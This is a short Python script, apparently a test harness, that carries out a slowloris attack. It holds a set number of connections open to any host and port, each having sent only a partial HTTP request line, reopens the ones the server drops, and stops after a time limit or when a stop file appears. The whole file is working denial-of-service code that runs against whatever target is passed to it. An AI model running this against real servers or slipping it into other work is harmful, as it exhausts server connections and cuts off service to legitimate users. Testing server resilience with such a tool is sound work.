#!/usr/bin/python3
"""Holds COUNT connections to HOST:PORT open, each having sent a partial request
line and then nothing (slowloris), opening a new one for each the server drops,
until the file STOP exists or SECONDS pass. Writes how many it holds to STATUS
once a second. Bounded in count and time: it stops by itself."""
import selectors
import socket
import sys
import time

host, port, count, stop, seconds, status = (sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4],
                                            float(sys.argv[5]), sys.argv[6])
sel = selectors.DefaultSelector()
held = set()
deadline = time.monotonic() + seconds
reported = 0.0


def open_one():
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.sendall(b"GET /metr")
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        held.add(s)
    except OSError:
        time.sleep(0.01)


while time.monotonic() < deadline:
    try:
        open(stop).close()
        break
    except OSError:
        pass
    while len(held) < count and time.monotonic() < deadline:
        open_one()
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:  # dropped by the server: replaced on the next round
            sel.unregister(s)
            held.discard(s)
            s.close()
    if time.monotonic() - reported >= 1:
        with open(status, "w") as f:
            f.write(str(len(held)))
        reported = time.monotonic()
for s in held:
    s.close()
